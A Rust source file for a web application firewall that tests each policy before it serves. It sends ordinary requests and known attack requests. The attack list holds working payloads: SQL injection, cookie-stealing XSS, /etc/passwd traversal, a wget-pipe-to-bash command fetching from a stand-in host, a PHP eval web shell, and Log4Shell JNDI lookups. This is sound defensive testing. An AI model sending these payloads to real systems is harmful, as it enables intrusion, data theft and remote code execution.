//! Canaries: attacks that every policy must stop and ordinary requests that it must let pass, tried before
//! the policy serves. A rule set that loads and does not protect is worse than none, as nobody notices.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU32, Ordering};

use bytes::Bytes;
use palisade_waf::{Completeness, RequestOrigin, RuleSet, Transaction, Verdict};

use super::place::Place;
use crate::config::Exclusion;

/// A policy that does not do what a WAF is for.
#[derive(Debug, thiserror::Error)]
pub enum CanaryError {
    /// An attack passes.
    #[error(
        "the policy would let a known attack pass ({attack}; {request}): an exclusion, a threshold or a SecLang file takes too \
         much away. Limit exclusions to rules and targets (rules, targets) and to a path; to watch without blocking \
         use mode = \"detection-only\"; to switch the WAF off for the route use mode = \"off\""
    )]
    AttackPasses {
        /// The canary.
        attack: &'static str,
        /// Method, host and path.
        request: String,
    },
    /// An ordinary request is stopped.
    #[error(
        "the policy would stop an ordinary request ({request}): rule {rule} objects. Lower the paranoia level, raise \
         the threshold, or mend the SecLang file that adds the rule"
    )]
    OrdinaryStopped {
        /// The canary.
        request: &'static str,
        /// The rule that stopped it.
        rule: u64,
    },
}

struct Canary {
    name: &'static str,
    method: &'static str,
    path: &'static str,
    /// With its `?`, or empty.
    query: &'static str,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
}

const FORM: &[(&str, &str)] = &[("content-type", "application/x-www-form-urlencoded")];
const JSON: &[(&str, &str)] = &[("content-type", "application/json")];

/// Each scores far above the usual thresholds.
const ATTACKS: &[Canary] = &[
    Canary {
        name: "SQL injection in a query",
        method: "GET",
        path: "/canary",
        query: "?probe=1%27%20UNION%20SELECT%20username,password%20FROM%20information_schema.tables--%20-",
        headers: &[],
        body: "",
    },
    Canary {
        name: "SQL injection in a form",
        method: "POST",
        path: "/canary",
        query: "",
        headers: FORM,
        body: "probe=1%27+OR+%271%27%3D%271%27%3B+DROP+TABLE+users%3B+SELECT+sleep(10)--+-",
    },
    Canary {
        name: "cross-site scripting in a query",
        method: "GET",
        path: "/canary",
        query: "?probe=%3Cscript%3Ealert(document.cookie)%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        headers: &[],
        body: "",
    },
    Canary {
        name: "cross-site scripting in JSON",
        method: "POST",
        path: "/canary",
        query: "",
        headers: JSON,
        body: r#"{"probe":"<script>alert(document.cookie)</script><svg onload=alert(1)>"}"#,
    },
    Canary {
        name: "path traversal",
        method: "GET",
        path: "/canary",
        query: "?probe=../../../../../../etc/passwd",
        headers: &[],
        body: "",
    },
    Canary {
        name: "shell command injection",
        method: "GET",
        path: "/canary",
        query: "?probe=%3Bcat%20/etc/passwd%3Bwget%20http://203.0.113.9/x.sh%20-O-%7Cbash",
        headers: &[],
        body: "",
    },
    Canary {
        name: "PHP code injection",
        method: "POST",
        path: "/canary",
        query: "",
        headers: FORM,
        body: "probe=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+eval%28base64_decode%28%24x%29%29%3B+%3F%3E",
    },
    Canary {
        name: "Log4Shell in a header",
        method: "GET",
        path: "/canary",
        query: "",
        headers: &[
            ("referer", "${jndi:ldap://203.0.113.9/x}"),
            ("x-api-version", "${jndi:ldap://203.0.113.9/x}"),
        ],
        body: "",
    },
];

/// As plain as requests come; they pass at every paranoia level.
const ORDINARY: &[Canary] = &[
    Canary {
        name: "a page",
        method: "GET",
        path: "/",
        query: "",
        headers: &[],
        body: "",
    },
    Canary {
        name: "a query",
        method: "GET",
        path: "/search",
        query: "?page=2",
        headers: &[],
        body: "",
    },
    Canary {
        name: "a form",
        method: "POST",
        path: "/login",
        query: "",
        headers: FORM,
        body: "user=alice&remember=yes",
    },
    Canary {
        name: "JSON",
        method: "POST",
        path: "/items",
        query: "",
        headers: JSON,
        body: r#"{"name":"lamp","count":3}"#,
    },
];

/// Tries all canaries, and the attacks again wherever one of these exclusions applies.
pub(super) fn prove(rules: &RuleSet, exclusions: &[Exclusion]) -> Result<(), CanaryError> {
    let anywhere = Place::default();
    for place in std::iter::once(anywhere.clone()).chain(Place::of(exclusions)) {
        for attack in ATTACKS {
            let Some(method) = place.method(attack.method, attack.body.is_empty()) else {
                continue;
            };
            let path = place.path.as_deref().unwrap_or(attack.path);
            let request = Request::new(attack, method, place.host(), path);
            if request.stopped_by(rules).is_none() {
                return Err(CanaryError::AttackPasses {
                    attack: attack.name,
                    request: format!("{method} {}{path}", place.host()),
                });
            }
        }
    }
    for ordinary in ORDINARY {
        let request = Request::new(ordinary, ordinary.method, anywhere.host(), ordinary.path);
        if let Some(rule) = request.stopped_by(rules) {
            return Err(CanaryError::OrdinaryStopped {
                request: ordinary.name,
                rule,
            });
        }
    }
    Ok(())
}

/// A canary on its way to a place.
struct Request<'a> {
    canary: &'static Canary,
    method: &'a str,
    host: &'a str,
    uri: String,
}

impl<'a> Request<'a> {
    fn new(canary: &'static Canary, method: &'a str, host: &'a str, path: &str) -> Self {
        Self {
            canary,
            method,
            host,
            uri: format!("{path}{}", canary.query),
        }
    }

    /// The rule that stops the request, or would if the engine were On.
    fn stopped_by(&self, rules: &RuleSet) -> Option<u64> {
        let mut transaction = rules.transaction(RequestOrigin {
            id: "canary".to_owned(),
            unix_micros: 0,
            utc_offset_seconds: 0,
        });
        match self.run(&mut transaction) {
            Verdict::Interrupted(interruption) => Some(interruption.rule_id),
            Verdict::Pass => transaction
                .matched_rules()
                .iter()
                .find(|rule| rule.disruptive)
                .map(|rule| rule.id),
        }
    }

    fn run(&self, transaction: &mut Transaction) -> Verdict {
        let client = SocketAddr::from((new_client(), 50_000));
        let server = SocketAddr::from((Ipv4Addr::new(192, 0, 2, 2), 443));
        transaction.connection(client, server);
        transaction.request_line(self.method.as_bytes(), self.uri.as_bytes(), b"HTTP/1.1");
        let common = [
            ("host", self.host),
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            ),
            ("accept", "text/html,application/json"),
        ];
        for (name, value) in common.iter().chain(self.canary.headers) {
            transaction.add_request_header(name.as_bytes(), value.as_bytes());
        }
        let body = self.canary.body.as_bytes();
        if !body.is_empty() {
            transaction.add_request_header(b"content-length", body.len().to_string().as_bytes());
        }
        match transaction.request_headers() {
            Verdict::Pass => transaction.request_body(Bytes::from_static(body), Completeness::Complete),
            stopped => stopped,
        }
    }
}

/// A client that no canary used before, of the network for tests of devices (RFC 2544): what rules remember of
/// one attacker (`initcol`) says nothing of the next request, nor of the one after a reload.
fn new_client() -> Ipv4Addr {
    static NEXT: AtomicU32 = AtomicU32::new(0);
    let network = u32::from(Ipv4Addr::new(198, 18, 0, 0));
    Ipv4Addr::from(network | (NEXT.fetch_add(1, Ordering::Relaxed) & 0x1_ffff))
}
